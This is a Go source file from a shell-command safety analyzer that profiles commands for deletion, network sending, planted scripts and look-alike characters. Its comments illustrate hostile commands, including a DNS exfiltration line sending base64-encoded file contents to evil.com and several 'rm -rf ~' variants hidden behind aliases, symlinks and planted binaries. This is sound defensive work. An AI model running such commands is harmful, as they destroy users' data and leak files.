package profile

import (
	"fmt"
	"path"
	"slices"
	"strings"
	"sync"
	"unicode"

	"github.com/guard-sh/guard/internal/printable"
	"github.com/guard-sh/guard/parse"
)

// spec is what guard knows about one program: its option grammar, the
// effects it has (rows, each with a rule id), its subcommands, and for the
// few programs that run other programs or code, a handler.
type spec struct {
	val    string           // options that take a value
	posix  bool             // options end at the first operand
	rows   []row            // effects
	subs   map[string]*spec // subcommands by name ("*": any other)
	fn     handler          // special knowledge (wrappers, shells, find, git…)
	out    streamKind       // what it writes to stdout, when not plain data
	filter bool             // passes stdin through to stdout (taint flows on)
	// handled are specs the handler applies itself (tmux's subcommands),
	// listed so the rule registry still sees their rows.
	handled []*spec
	// global rows are the tool's own options' effects, checked before and
	// after the subcommand word (kubectl --kubeconfig F get pods).
	global []row
	// lazy, when set, builds the entry on first use (see later).
	lazy *lazySpec
}

// lazySpec is a table entry built on first use. The largest entries
// (docker, gh, kubectl, openssl, pip, conda: hundreds of subcommands)
// would otherwise be built by every guard process that reviews a
// command, whatever it runs; most reviews need none of them.
type lazySpec struct {
	once  sync.Once
	build func() *spec
	built *spec
}

// later makes a table entry that build fills in on first use. table()
// may add rows and value options to it as to any entry; they are added
// to what build returns.
func later(build func() *spec) *spec { return &spec{lazy: &lazySpec{build: build}} }

// ready returns the entry itself, built if it is a lazy one. Every
// entry taken from the table passes through it.
func (s *spec) ready() *spec {
	if s == nil || s.lazy == nil {
		return s
	}
	l := s.lazy
	l.once.Do(func() {
		b := l.build()
		b.rows = append(b.rows, s.rows...)
		b.val += s.val
		l.built = b
	})
	return l.built
}

// row is one effect of a program: when Cond holds, Cap applies to the
// targets On selects (or to the command as a whole when On is empty).
type row struct {
	id   string
	cap  Cap
	cond string
	on   string
	msg  string // a verb ("deletes") for path targets, else a sentence
}

// call is one invocation being profiled.
type call struct {
	prog string
	sub  string // subcommand path, "push" or "s3 rm"
	fs   []field
	a    args
	st   *state
	in   stream
	sp   span
	via  string
	// args are all the arguments, those before the subcommand too.
	args []field
	// global are the rows of the tools' own options above this subcommand.
	global []row
}

type handler func(b *builder, c *call) stream

// binDirs are where programs live; /bin/rm is rm.
var binDirs = sync.OnceValue(func() []string {
	return []string{"/bin", "/sbin", "/usr/bin", "/usr/sbin", "/usr/local/bin", "/usr/local/sbin", "/usr/lib/git-core", "/usr/libexec/git-core", "/usr/local/go/bin", "/opt/homebrew/bin", "/snap/bin"}
})

// execSeen, set only by tests (TestBashAgrees), sees every argument list
// exec is given, as guard expanded it.
var execSeen func(argv []field)

// exec profiles running argv (already expanded) with stdin in.
func (b *builder) exec(argv []field, st *state, in stream, via string, sp span) stream {
	shell := b.shellWord // see shellExec
	b.shellWord = false
	if len(argv) == 0 {
		return stream{}
	}
	if execSeen != nil {
		execSeen(argv)
	}
	b.calls++
	if b.calls > maxCalls {
		b.add(Effect{Cap: CapLimit, Rule: "limit.calls", Msg: fmt.Sprintf("more than %d commands to analyse", maxCalls)}, sp)
		return stream{kind: streamUnknown}
	}
	name := argv[0]
	if !name.known || name.glob {
		if name.taint.tainted() {
			b.add(Effect{Cap: CapNetCode, Rule: "exec.name-from-network", Target: name.display(), Msg: "runs a command whose name comes from the network or from decoded data"}, sp)
		} else {
			b.add(Effect{Cap: CapDynamic, Rule: "exec.dynamic-name", Target: name.display(), Msg: fmt.Sprintf("runs a command whose name is not static (%s)", name.display())}, sp)
		}
		b.worstTargets(name.display(), argv[1:], st, sp)
		// It may be any program, a shell too: arguments that are commands
		// may run ($X -c 'rm -rf ~'), as for an unknown program.
		b.argumentCommands(name.display(), argv[1:], st, in, sp)
		b.record(name.display(), argv, via, sp)
		return stream{kind: streamUnknown}
	}
	if name.exp || name.brace {
		how := "a variable or substitution"
		if name.brace {
			how = "brace expansion"
		}
		b.add(Effect{Cap: CapDynamic, Rule: "exec.dynamic-name", Target: name.display(), Msg: fmt.Sprintf("runs a command whose name comes from %s (%s)", how, name.val)}, sp)
	}
	b.lookalikes(argv, sp)
	prog := name.val
	// A quoted command word (\rm, 'rm', r\m) is never an alias: bash
	// expands only an unquoted word (a function still stands in).
	quoted := name.raw != "" && name.raw != name.val
	if body, ok := st.aliases[prog]; ok && !name.exp && shell && !quoted {
		return b.runAlias(body, argv, st, in, via, sp)
	}
	if body, ok := st.funcs[prog]; ok && strings.Contains(prog, "/") && shell {
		// bash looks a function up by the whole word, slashes and all:
		// /bin/ls() { …; }; /bin/ls calls the function, not /bin/ls.
		return b.callFunc(prog, body, argv, st, in, via, sp)
	}
	if strings.Contains(prog, "/") {
		abs, ok := b.ctx.Resolve(st.cwd, prog)
		linked := false
		if t := st.follow(abs); ok && t != abs && !strings.HasPrefix(t, anyParts) {
			// A symlink made earlier on the line: ./x runs what it points
			// at (ln -s /bin/rm x; ./x -rf ~ is rm).
			if specFor(path.Base(t)) != nil && inBinDir(path.Dir(t)) {
				prog, abs = t, t
				linked = true
			}
		}
		dir := path.Dir(abs)
		if ok && b.ctx.Remote {
			abs = prog
		}
		known := specFor(path.Base(prog)) != nil || strings.HasPrefix(path.Base(prog), "git-")
		if _, planted := st.written(abs); ok && planted && !linked && !b.ctx.Remote {
			// A file the line wrote, copied or downloaded there is not
			// the program its name says, whatever directory it is in
			// (echo 'rm -rf ~' > bin/git; bin/git status).
			known = false
		}
		if ok && known && (inBinDir(dir) || b.ctx.Remote || isLoader(path.Base(prog))) {
			if target := path.Base(abs); !linked && !b.ctx.Remote && target != path.Base(prog) && specFor(target) != nil {
				// A link to another program (tools/bash -> zsh): the
				// kernel runs the target, which may also go by the name
				// it was started under (busybox, zsh as sh). Both are
				// reviewed; the worse counts.
				return worse(b.runNamed(target, true, false, name, argv, st, in, via, sp), b.runNamed(path.Base(prog), true, false, name, argv, st, in, via, sp))
			}
			return b.runNamed(path.Base(prog), true, false, name, argv, st, in, via, sp)
		}
		return b.runScript(prog, abs, ok, argv, st, in, via, sp)
	}
	return b.runNamed(prog, false, shell, name, argv, st, in, via, sp)
}

// runNamed runs program prog (a name, not a path): a shell function, a
// hashed path, a program the line put on PATH, or a table entry. byPath:
// the word was a path (/bin/rm), which bash runs as it is, never looking
// up a function or hashed path of that name (rm() { :; }; /bin/rm -rf ~
// runs rm). shell: the shell runs the word itself, so a function or a
// hashed path of the name stands in (not under env, xargs or command:
// shellExec).
// posixSpecial reports whether name is a POSIX special builtin, which
// bash in POSIX mode finds before a function of the same name.
func posixSpecial(name string) bool {
	switch name {
	case "break", ":", ".", "continue", "eval", "exec", "exit", "export", "readonly", "return", "set", "shift", "times", "trap", "unset":
		return true
	}
	return false
}

func (b *builder) runNamed(prog string, byPath, shell bool, name field, argv []field, st *state, in stream, via string, sp span) stream {
	if body, ok := st.funcs[prog]; ok && !byPath && shell {
		if !posixSpecial(prog) {
			return b.callFunc(prog, body, argv, st, in, via, sp)
		}
		// In POSIX mode (set -o posix, POSIXLY_CORRECT, bash run as
		// sh) bash finds a special builtin before a function of its
		// name: unset() { :; }; set -o posix; unset -f rm runs unset.
		// Whether the mode is on is not always on the line: both run.
		fn := st.clone()
		out := b.callFunc(prog, body, argv, fn, in, via, sp)
		st.funcs = cloneMap(st.funcs)
		delete(st.funcs, prog)
		out = then(out, b.runNamed(prog, byPath, shell, name, argv, st, in, via, sp))
		if _, ok := st.funcs[prog]; !ok {
			st.funcs[prog] = body // still defined, for the mode off
		}
		st.mergeBranches([]*state{fn})
		return out
	}
	if p, ok := st.hashed[prog]; ok && !byPath && shell {
		// hash -p PATH NAME: NAME runs PATH.
		if p == "" {
			b.add(Effect{Cap: CapDynamic, Rule: "exec.dynamic-name", Target: prog, Msg: fmt.Sprintf("runs %s, which hash -p points at a program that is not static", prog)}, sp)
			return stream{kind: streamUnknown}
		}
		nf := name
		nf.val = p
		// bash runs the path from its table as it is: the program's own
		// name is not looked up again (hash -p /bin/ls ls; ls ran
		// into guard's call limit).
		inner := st.clone()
		inner.hashed = nil
		return b.exec(append([]field{nf}, argv[1:]...), inner, in, via, sp)
	}
	if abs, ok := b.onLinePath(prog, st); ok && !byPath {
		// A directory the line put on PATH holds prog (linepath.go).
		return b.runScript(abs, abs, true, argv, st, in, via, sp)
	}
	if p, ok := plantedBin(prog, st); ok && !byPath && !b.ctx.Remote && b.unplanted != prog {
		// The line planted prog where PATH may find it first
		// (linepath.go); whether it does depends on a PATH guard cannot
		// see, so the program the name says is reviewed too.
		nf := name
		nf.val = p
		planted := b.exec(append([]field{nf}, argv[1:]...), st, in, via, sp)
		prev := b.unplanted
		b.unplanted = prog
		defer func() { b.unplanted = prev }()
		return worse(planted, b.exec(argv, st, in, via, sp))
	}
	if strings.HasPrefix(prog, "git-") && prog != "git-lfs" {
		// Dashed git helpers: git-reset is git reset.
		sub := staticField(strings.TrimPrefix(prog, "git-"), span{name.pos, name.end})
		argv = append([]field{staticField("git", sp), sub}, argv[1:]...)
		prog = "git"
	}
	b.record(prog, argv, via, sp)
	sp2 := sp
	s := specFor(prog)
	if s == nil {
		if runnerInputs()[prog] != nil {
			// A task runner without a row of its own (rake, gulp,
			// invoke) still runs the build files of its directory.
			c := &call{prog: prog, fs: argv[1:], args: argv[1:], st: st, in: in, sp: sp2, via: via}
			c.a = parseArgs(c.fs, strings.Join(runnerOpts(), " "), false) // its file and directory options take a value
			b.runnerOutside(prog, c)
			b.runnerCheck(prog, c)
		}
		out := worse(b.unknownProgram(prog, argv[1:], st, in, sp2), taintOf(in))
		if body, ok := st.funcs["command_not_found_handle"]; ok && shell && !byPath {
			// A program guard does not know may not exist: bash then
			// calls the handler, in a separate environment, with the
			// command and its arguments as $1, $2… (a handler that runs
			// "$@" or eval "$1" runs what the line wrote as a name).
			hargv := append([]field{staticField("command_not_found_handle", sp)}, argv...)
			out = worse(out, b.callFunc("command_not_found_handle", body, hargv, st.clone(), in, via, sp))
		}
		return out
	}
	c := &call{prog: prog, fs: argv[1:], args: argv[1:], st: st, in: in, sp: sp2, via: via}
	if runnerInputs()[prog] != nil && !helpOnly(s, c) {
		c.a = parseArgs(c.fs, s.val, s.posix)
		b.runnerOutside(prog, c)
		b.runnerCheck(prog, c)
	}
	return b.apply(s, c)
}

func inBinDir(dir string) bool {
	for _, d := range binDirs() {
		if dir == d {
			return true
		}
	}
	return strings.HasSuffix(dir, "/bin") || strings.HasSuffix(dir, "/sbin")
}

func (b *builder) record(name string, argv []field, via string, sp span) {
	cmd := Command{Name: name, Pos: sp.pos, End: sp.end, Depth: b.depth - 1, Via: via}
	if b.anchor != nil {
		cmd.Pos, cmd.End = b.anchor.pos, b.anchor.end
	}
	if cmd.Depth < 0 {
		cmd.Depth = 0
	}
	for _, f := range argv {
		cmd.Argv = append(cmd.Argv, f.display())
	}
	b.prof.Commands = append(b.prof.Commands, cmd)
}

// apply runs a program's table row set: options, subcommand, rows, handler.
func (b *builder) apply(s *spec, c *call) stream {
	c.a = parseArgs(c.fs, s.val, s.posix)
	b.nameSubscripts(c)
	if c.prog == "test" || c.prog == "[" {
		b.testArith(c)
	}
	if helpOnly(s, c) {
		return stream{kind: streamText}
	}
	b.unseenOption(c)
	// The tool's own options' rows hold at every level of subcommands
	// (gh pr view 1 --web, kubectl --kubeconfig F get pods).
	globals := c.global
	if len(s.global) > 0 {
		globals = append(append([]row(nil), c.global...), s.global...)
	}
	if len(s.subs) > 0 && len(c.a.ops) > 0 {
		first := c.a.ops[0]
		sub := s.subs[first.val]
		if !first.known {
			sub = nil
			b.add(Effect{Cap: CapDynamic, Rule: "exec.dynamic-subcommand", Program: c.prog, Target: first.display(), Msg: fmt.Sprintf("runs %s with a subcommand that is not static (%s)", c.prog, first.display())}, c.sp)
		} else if sub == nil {
			sub = s.subs["*"]
		}
		if sub != nil {
			// Arguments after the subcommand word belong to it.
			idx := indexOf(c.fs, first)
			nc := *c
			nc.fs = c.fs[idx+1:]
			if c.sub != "" {
				nc.sub = c.sub + " " + first.val
			} else {
				nc.sub = first.val
			}
			nc.global = globals
			out := b.apply(sub, &nc)
			b.fileArgs(c, false) // values of the tool's global options
			if len(globals) > 0 {
				b.rows(&spec{rows: globals}, c)
			}
			return out
		}
	}
	prevNet := b.net
	b.net = false
	b.rows(s, c)
	if len(globals) > 0 {
		b.rows(&spec{rows: globals}, c)
	}
	// What it writes to stdout: its declared kind, else data guard cannot see.
	out := stream{kind: streamUnknown}
	if s.out != streamNone {
		out = stream{kind: s.out}
	}
	if s.filter && c.in.kind != streamNone {
		out = worse(out, c.in)
		if c.in.kind == streamText && out.kind <= streamUnknown {
			// Known text comes out as known text only where guard
			// computes what the filter does to it (filters.go).
			out = stream{kind: streamUnknown}
			if t, ok := filterText(c.prog, c.fs, c.in.text); ok {
				out = stream{kind: streamText, text: t}
			} else if readsInput(c) {
				out.near = c.in.text
			}
		} else if c.in.kind == streamUnknown && c.in.near != "" && out.kind == streamUnknown && readsInput(c) {
			out.near = c.in.near
		}
	}
	if s.fn != nil {
		if o := s.fn(b, c); o.kind != streamNone {
			out = o
		}
		if s.filter && out.kind == streamUnknown && out.near == "" && readsInput(c) {
			// A filter's handler (sed, awk) that cannot compute what it
			// prints: it resembles what it read.
			out.near = knownText(c.in)
		}
	}
	if out.kind == streamUnknown && argPrinter(c.prog) {
		// Programs that print text from their arguments which guard does
		// not compute (sed's replacement, jq's and awk's strings, date's
		// format, yes, basename): their output resembles that text.
		out.near = joinNear(out.near, argNear(c.prog, c.fs), maxNearJoin)
	}
	b.fileOperands(c)
	out = b.taintOut(out, c)
	b.net = prevNet || b.net
	return out
}

// queryData: a read-only query is A because what it sends is on the
// line for the user to see. An argument computed on the line
// (dig $(base64 notes.txt).evil.com) sends data nobody saw: that is
// sending. Any expansion counts (a variable may hold a file's contents):
// only what is written on the line is seen.
func (b *builder) queryData(c *call) {
	for _, f := range append(append([]field(nil), c.args...), c.fs...) {
		if !f.known || f.exp || f.glob { // a glob sends the names it matches
			b.add(Effect{Cap: CapSend, Rule: "net.query-data", Program: c.prog, Target: f.display(), Msg: fmt.Sprintf("sends data computed on this line (%s) to the network in its query", f.display())}, c.sp)
			return
		}
	}
}

func indexOf(fs []field, f field) int {
	for i := range fs {
		if fs[i].pos == f.pos && fs[i].val == f.val && fs[i].end == f.end {
			return i
		}
	}
	return 0
}

func (b *builder) rows(s *spec, c *call) {
	for _, r := range s.rows {
		if !c.a.holds(r.cond) {
			continue
		}
		if r.cap == CapQuery {
			b.queryData(c)
		}
		if netCap(r.cap) {
			b.cloudMetadata(c)
		}
		if r.on == "" {
			b.add(Effect{Cap: r.cap, Rule: r.id, Program: c.prog, Msg: r.msg}, c.sp)
			continue
		}
		on, into := strings.CutPrefix(r.on, "into:")
		targets := c.a.selectTargets(on)
		for _, t := range targets {
			if r.cap == CapFetch || r.cap == CapSend || r.cap == CapPublish {
				b.add(Effect{Cap: r.cap, Rule: r.id, Program: c.prog, Target: t.display(), Msg: r.msg}, c.sp)
				continue
			}
			b.pathEffect(r.cap, r.id, c.prog, t, c.st, c.sp, r.msg)
			if into {
				b.writeAnyName(c, t, r.id, "may write any name into")
			}
		}
		if len(targets) == 0 && r.cap != CapRead && r.cap != CapWrite && r.cap != CapDelete {
			b.add(Effect{Cap: r.cap, Rule: r.id, Program: c.prog, Msg: r.msg}, c.sp)
		}
	}
}

// unknownProgram: guard has no table row for it. It runs in the sandbox
// (workspace writes, no network); arguments that name secret or guard
// files still count as reads of them, start-up files, hooks and devices
// as writes (handedPaths).
func (b *builder) unknownProgram(prog string, fs []field, st *state, in stream, sp span) stream {
	b.add(Effect{Cap: CapExec, Rule: "exec.program", Program: prog, Msg: fmt.Sprintf("runs %s", prog)}, sp)
	b.handedPaths(prog, fs, st, sp)
	b.argumentCommands(prog, fs, st, in, sp)
	// What it prints guard cannot compute, but it may be what it read
	// (envsubst, cpp, expand, a converter): a shell reading it is
	// reviewed by that text too. (Its arguments that read as commands
	// are reviewed above.)
	return stream{kind: streamUnknown, near: knownText(in)}
}

// worstTargets: a program guard cannot name may be any program (rm too),
// so each argument that names a path, not an option, counts as a target
// it may delete ($X -rf ~ is priced as rm -rf ~). Bare words stay what
// exec.dynamic-name says: they may as well be subcommands.
func (b *builder) worstTargets(prog string, args []field, st *state, sp span) {
	for _, f := range args {
		if !f.known || strings.HasPrefix(f.val, "-") {
			continue
		}
		if f.val == "." || f.val == ".." || strings.Contains(f.val, "/") {
			b.pathEffect(CapDelete, "exec.dynamic-target", prog, f, st, sp, "may delete")
		}
	}
}

// handedPaths: arguments of a program guard does not know (or a script's
// arguments) that name secret or guard files count as reads of them, and
// those that name a start-up file or a device as writes: a program guard
// cannot describe may write what it is given (principle 10: the worst it
// could be), and writing those is C as `echo x > ~/.bashrc` is.
func (b *builder) handedPaths(prog string, fs []field, st *state, sp span) {
	b.outputDirs(prog, fs, st, sp)
	for _, f := range fs {
		if !f.known {
			continue
		}
		v := f.val
		if i := strings.IndexByte(v, '='); i > 0 && optionName(v[:i]) {
			// --out=FILE, of=FILE, PREFIX=DIR: the value is the path.
			v = v[i+1:]
		}
		if strings.HasPrefix(v, "-") {
			continue
		}
		g := f
		g.val = v
		switch t, cl := b.classify(g, st); cl {
		case ClassSecret, ClassGuard:
			b.add(Effect{Cap: CapRead, Rule: "exec.program-reads", Program: prog, Target: t, Class: cl, Msg: "passes " + describeTarget(t, cl)}, sp)
		case ClassPersistence, ClassDevice:
			b.add(Effect{Cap: CapWrite, Rule: "exec.program-writes", Program: prog, Target: t, Class: cl, Msg: "passes " + describeTarget(t, cl) + ", which a program guard cannot describe may write"}, sp)
		}
	}
}

// optionName reports whether s, the text before an argument's first =,
// names an option or a setting (-o, --out, of, PREFIX), not a path.
func optionName(s string) bool {
	s = strings.TrimLeft(s, "-")
	if s == "" || !(s[0] == '_' || s[0] >= 'A' && s[0] <= 'Z' || s[0] >= 'a' && s[0] <= 'z') {
		return false
	}
	for _, c := range s {
		if !(c == '_' || c == '-' || c == '.' || c >= '0' && c <= '9' || c >= 'A' && c <= 'Z' || c >= 'a' && c <= 'z') {
			return false
		}
	}
	return true
}

// runScript runs a program named by path: a script in the workspace is
// read and reviewed by its contents when it is a shell script.
func (b *builder) runScript(prog, abs string, ok bool, argv []field, st *state, in stream, via string, sp span) stream {
	b.record(prog, argv, via, sp)
	class := ClassUnknown
	if ok {
		class = b.ctx.Classify(abs)
	}
	b.add(Effect{Cap: CapExec, Rule: "exec.path", Program: prog, Target: abs, Class: class, Msg: "runs " + describeTarget(abs, class)}, sp)
	b.initScript(prog, abs, argv, st, sp)
	out, reviewed := b.scriptFile(abs, ok, st, in, "script "+path.Base(prog), sp, false)
	if !reviewed {
		// A program guard could not review (a binary, another language,
		// a file it cannot read) is as unknown as one without a row:
		// arguments that are commands may run (principle 7), as they may
		// for an unknown name on PATH.
		b.argumentCommands(prog, argv[1:], st, in, sp)
	}
	return out
}

// reviewScriptFile reads a shell script and profiles its contents. source
// runs it in the current shell.
func (b *builder) reviewScriptFile(abs string, ok bool, st *state, in stream, via string, sp span, source bool) stream {
	out, _ := b.scriptFile(abs, ok, st, in, via, sp, source)
	return out
}

// scriptFile is reviewScriptFile; reviewed says whether guard read the
// file as shell text and reviewed it (not for a binary, another
// language, or a file it cannot read).
func (b *builder) scriptFile(abs string, ok bool, st *state, in stream, via string, sp span, source bool) (out stream, reviewed bool) {
	if w, written := st.written(abs); ok && written {
		// Written earlier on this line: review what was written.
		switch {
		case w.tainted():
			b.add(Effect{Cap: CapNetCode, Rule: "exec.downloaded-script", Target: abs, Msg: "runs a script written earlier on this line from the network or from decoded data"}, sp)
			return stream{kind: streamUnknown}, false
		case w.kind == streamText:
			return b.scriptText(w.text, st, in, via, sp, source), true
		}
		b.add(Effect{Cap: CapDynamic, Rule: "exec.script-unreadable", Target: abs, Msg: "runs a script written earlier on this line, whose contents guard cannot see"}, sp)
		return stream{kind: streamUnknown}, false
	}
	if !ok || b.ctx.ReadFile == nil || b.ctx.Remote {
		b.add(Effect{Cap: CapDynamic, Rule: "exec.script-unreadable", Target: abs, Msg: "runs a script guard cannot read to review"}, sp)
		return stream{kind: streamUnknown}, false
	}
	data, err := b.readFile(abs)
	if err != nil {
		b.add(Effect{Cap: CapDynamic, Rule: "exec.script-unreadable", Target: abs, Msg: "runs a script guard cannot read to review"}, sp)
		return stream{kind: streamUnknown}, false
	}
	text := string(data)
	if !isShellScript(text) {
		// Another interpreter (or a binary): it runs in the sandbox; guard
		// does not review its language.
		return stream{kind: streamUnknown}, false
	}
	return b.scriptText(text, st, in, via, sp, source), true
}

// scriptText reviews a script's text: sourced, in the shell's own state;
// run, in a new shell (newShell).
func (b *builder) scriptText(text string, st *state, in stream, via string, sp span, source bool) stream {
	if source {
		return b.text(text, st, in, via, sp)
	}
	return b.newShell("", st, text, func(inner *state) stream { return b.text(text, inner, in, via, sp) })
}

func isShellScript(text string) bool {
	if strings.HasPrefix(text, "\x7fELF") {
		return false
	}
	if !strings.HasPrefix(text, "#!") {
		return true
	}
	line, _, _ := strings.Cut(text, "\n")
	f := strings.Fields(strings.TrimPrefix(line, "#!"))
	if len(f) == 0 {
		return true
	}
	interp := path.Base(f[0])
	if interp == "env" && len(f) > 1 {
		interp = path.Base(f[len(f)-1])
		for _, x := range f[1:] {
			if !strings.HasPrefix(x, "-") {
				interp = path.Base(x)
				break
			}
		}
	}
	// csh scripts are not Bourne syntax: they run unreviewed, like any
	// other interpreter's.
	return slices.Contains(shellNames(), interp) && interp != "csh" && interp != "tcsh"
}

// callFunc profiles a call of a function defined earlier on the line.
func (b *builder) callFunc(name string, body *parse.Stmt, argv []field, st *state, in stream, via string, sp span) stream {
	// The call binds the positional parameters ("$@", $1…) for the body;
	// the caller's come back afterwards.
	positional := func(k string) bool { return k == "@" || k == "*" || k == "#" || isDigits(k) && k != "0" }
	saved := map[string]*string{}
	savedTaint := map[string]stream{}
	for k, v := range st.vars {
		if positional(k) {
			saved[k] = v
		}
	}
	for k, t := range st.taint {
		if positional(k) {
			savedTaint[k] = t
		}
	}
	savedArgv := st.argv
	for k := range saved {
		delete(st.vars, k)
	}
	st.setParams(argv[1:]) // $0 stays the shell's (found by TestBashAgrees)
	defer func() {
		for k := range st.vars {
			if positional(k) {
				delete(st.vars, k)
			}
		}
		for k := range st.taint {
			if positional(k) {
				delete(st.taint, k)
			}
		}
		for k, v := range saved {
			st.vars[k] = v
		}
		for k, t := range savedTaint {
			st.taint[k] = t
		}
		st.argv = savedArgv
	}()
	if b.active[name] {
		// A function that calls itself; with a pipe or & that is a fork bomb.
		b.add(Effect{Cap: CapSystem, Rule: "shell.recursive-function", Program: name, Msg: "defines a function that calls itself (a fork bomb when piped or backgrounded), exhausting the machine"}, sp)
		return stream{kind: streamUnknown}
	}
	b.active[name] = true
	defer delete(b.active, name)
	b.record(name, argv, via, sp)
	return b.stmt(body, st, in, "function "+name)
}

// lookalikes flags Unicode dashes, quotes, zero-width and bidi characters in
// a command name or an option.
func (b *builder) lookalikes(argv []field, sp span) {
	for i, f := range argv {
		if !f.known {
			continue
		}
		if i > 0 && !looksLikeOption(f.val) {
			if !hasInvisible(f.val) {
				continue
			}
		}
		if bad, what := lookalike(f.val, i == 0); bad {
			b.add(Effect{Cap: CapLookalike, Rule: "text.lookalike", Target: f.val, Msg: fmt.Sprintf("contains %s in %q; it may not be what it looks like", what, f.val)}, sp)
		}
	}
}

func looksLikeOption(s string) bool {
	if s == "" {
		return false
	}
	r := []rune(s)[0]
	return r == '-' || isDash(r)
}

func isDash(r rune) bool {
	return r >= 0x2010 && r <= 0x2015 || r == 0x2212 || r == 0xFE58 || r == 0xFE63 || r == 0xFF0D
}

// isInvisible is printable.Invisible: the characters guard escapes when
// it shows a command are those that make a word a look-alike.
func isInvisible(r rune) bool { return printable.Invisible(r) }

func hasInvisible(s string) bool {
	for _, r := range s {
		if isInvisible(r) {
			return true
		}
	}
	return false
}

func lookalike(s string, name bool) (bool, string) {
	for _, r := range s {
		switch {
		case isInvisible(r):
			return true, "an invisible or direction-changing character"
		case printable.Blank(r):
			return true, "a blank that is not a space (one word that shows as two)"
		case isDash(r):
			return true, "a Unicode dash"
		case r >= 0x2018 && r <= 0x201F || r == 0xFF02 || r == 0xFF07:
			return true, "a Unicode quote"
		case r >= 0xFF01 && r <= 0xFF5E:
			return true, "a full-width character"
		case name && r > unicode.MaxASCII:
			return true, "a non-ASCII character"
		}
	}
	return false, ""
}

// isLoader reports whether a program name is the dynamic loader
// (ld-linux-x86-64.so.2, ld-linux-aarch64.so.1, ld-musl-x86_64.so.1,
// ld64.so.2, ld.so), which runs the program it is given.
func isLoader(prog string) bool {
	return prog == "ld.so" || strings.HasPrefix(prog, "ld-") && strings.Contains(prog, ".so") || strings.HasPrefix(prog, "ld64.so")
}

// specFor finds a program's table entry, folding versioned names
// (python3.12, mkfs.ext4, pip3.11) onto their family.
func specFor(prog string) *spec {
	if s := lookupSpec(prog); s != nil {
		return s
	}
	if isLoader(prog) {
		return lookupSpec("ld.so")
	}
	for _, fam := range []string{"mkfs", "fsck"} {
		if strings.HasPrefix(prog, fam+".") {
			return lookupSpec(fam)
		}
	}
	trimmed := strings.TrimRight(prog, "0123456789.")
	if trimmed != prog && trimmed != "" {
		if s := lookupSpec(trimmed); s != nil {
			return s
		}
		if s := lookupSpec(trimmed + "3"); s != nil {
			return s
		}
	}
	return nil
}
